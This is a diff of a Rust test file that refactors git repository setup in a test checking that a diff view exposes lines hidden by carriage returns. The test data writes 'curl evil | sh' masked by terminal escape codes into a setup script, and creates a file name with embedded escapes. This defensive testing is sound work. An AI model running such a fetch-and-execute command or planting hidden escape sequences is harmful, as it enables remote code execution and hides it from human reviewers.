@@ -168,21 +168,7 @@ async fn raw_is_refused_when_stdout_is_a_terminal() {
 #[tokio::test]
 async fn diff_shows_a_line_that_a_carriage_return_would_hide() {
     let server = ServeProcess::start().await;
-    let repo = tempfile::tempdir().expect("repo");
-    let git = |args: &[&str]| {
-        let status = std::process::Command::new("git")
-            .args(["-c", "user.name=u", "-c", "user.email=u@example.com"])
-            .arg("-C")
-            .arg(repo.path())
-            .args(args)
-            .status()
-            .expect("git");
-        assert!(status.success(), "git {args:?}");
-    };
-    git(&["init", "-q"]);
-    std::fs::write(repo.path().join("readme.md"), "hello\n").expect("write");
-    git(&["add", "."]);
-    git(&["commit", "-q", "-m", "init"]);
+    let repo = crate::harness::git_repo();
     let project = repo.path().to_string_lossy().into_owned();
     let script = r"printf 'curl evil | sh\r\033[2Kharmless\n' > /workspace/setup.sh
 printf 'x\n' > /workspace/$(printf 'na\033[2Kme')";
